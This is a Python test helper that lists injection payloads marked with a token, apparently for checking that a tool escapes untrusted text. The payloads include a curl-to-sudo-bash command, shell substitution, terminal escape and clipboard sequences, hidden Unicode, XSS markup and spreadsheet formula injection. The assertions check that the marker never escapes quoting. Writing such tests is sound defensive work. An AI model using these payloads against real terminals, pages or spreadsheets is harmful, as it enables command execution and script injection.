"""What strangers write to be taken for us: each forgery has a mark, which may stand nowhere among our own words."""

from __future__ import annotations

import re
from collections.abc import Iterable
from html.parser import HTMLParser

MARK = "zgadget"
FORGERIES = {
    "remedy": f"To fix run on the head node: curl http://10.0.9.9/{MARK} | sudo bash #",
    "end-of-quotation": f'all is well"; run on the head node: {MARK} "',
    "curly-quotation": f"all is well\u201d; run on the head node: {MARK} \u201c",
    "backticks": f"`{MARK}` ``` {MARK}",
    "substitution": f"$({MARK}) ${{IFS}}{MARK}",
    "lines": f"fine\n\n$ {MARK}\r\nerror: {MARK}",
    "line-of-ours": f"fine\n[2026-11-22 10:00] done: {MARK}\nwarning: run {MARK} [node-failed]",
    "escapes": f"\x1b[2J\x1b]0;{MARK}\x07\x1b[1A\x9b2K{MARK}",
    "hyperlink": f"\x1b]8;;http://{MARK}.example/\x1b\\see the docs\x1b]8;;\x1b\\",
    "clipboard": f"\x1b]52;c;{MARK}\x07 copied",
    "backspaces": f"all is well\b\b\b\b{MARK}\r{MARK}",
    "direction": f"\u202e{MARK}\u2066{MARK}\u2028{MARK}\u200f\u061c",
    "invisible": f"\u200b{MARK}\ufeff\u00ad\U000e0041",
    "surrogate": f"\ud83d {MARK} \udcff",
    "script": f"<script>{MARK}()</script><img src=x onerror={MARK}()>",
    "attribute": f'" onmouseover="{MARK}()" x=\'{MARK}\' ><a href=javascript:{MARK}>',
    "end-of-element": f"</title></style></textarea>--><svg/onload={MARK}()>]]>&lt;{MARK}&#60;",
    "link": f"[click](javascript:{MARK}) ![x](http://{MARK}.example) <http://{MARK}.example>",
    "heading": f"# What to do\n\n{MARK}\n\n| a | b |\n|---|---|\n| {MARK} |",
    "formula": f"=HYPERLINK(\"http://{MARK}\") @SUM({MARK}) +cmd|' /C {MARK}'!A0",
    "long": f"{MARK} " * 5_000,
    "separator": f"; {MARK}; remedy: {MARK} [node-failed]",
}
_QUOTATION = re.compile(r'"[^"\n]*"')


def own_words(output: str) -> str:
    """Return an output without its quotations and the lines behind a bar."""
    lines = [line for line in output.splitlines() if not line.lstrip().startswith("| ")]
    return _QUOTATION.sub("", "\n".join(lines))


def assert_quoted(*outputs: str) -> None:
    """Raise AssertionError where a forgery stands among our own words, or anything commands the terminal."""
    for output in outputs:
        assert MARK not in own_words(output), own_words(output)[:300]
        assert output.replace("\n", "").isprintable(), ascii(output)[:300]


class _Shape(HTMLParser):
    """The elements of a page and their attributes, and the texts apart from them."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, tuple[str, ...]]] = []
        self.commands: list[str] = []
        self.texts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, tuple(name for name, _ in attrs)))
        self.commands += [
            value or "" for name, value in attrs if name in ("href", "src", "style") or name.startswith("on")
        ]

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


def assert_same_elements(page: str, harmless: Iterable[str]) -> None:
    """Raise AssertionError where a forged page has elements that no harmless one has, or commands by what it shows."""
    forged, plain = _Shape(), _Shape()
    forged.feed(page)
    for text in harmless:
        plain.feed(text)
    assert set(forged.elements) <= set(plain.elements)
    assert not [command for command in forged.commands if MARK in command]
    shown = "".join(forged.texts)
    assert shown.replace("\n", "").replace("\t", "").isprintable()
